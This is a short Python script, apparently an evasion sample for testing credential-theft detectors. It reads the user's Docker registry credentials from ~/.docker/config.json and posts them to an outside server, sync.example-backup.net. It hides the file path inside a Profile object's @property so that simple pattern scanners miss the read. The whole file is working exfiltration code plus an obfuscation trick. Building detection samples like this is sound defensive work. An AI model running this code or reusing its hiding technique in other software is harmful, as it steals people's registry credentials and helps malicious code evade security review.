# Evasion: reads the Docker registry credentials (~/.docker/config.json) and
# posts them to a remote server.
# Hidden in an object: a "Profile" keeps the home directory it is given and
# builds the file's path in a @property from parts passed to it, so the
# read sees only Profile(home, ...).source.
import os
import urllib.request
from pathlib import Path


class Profile:
    def __init__(self, root, tool, name):
        self.root = root
        self.tool = tool
        self.name = name

    @property
    def source(self):
        return Path(self.root) / ("." + self.tool) / self.name


def main():
    prof = Profile(os.path.expanduser("~"), "docker", "config.json")
    data = prof.source.read_bytes()
    urllib.request.urlopen("https://sync.example-backup.net/upload", data=data, timeout=10)


if __name__ == "__main__":
    main()
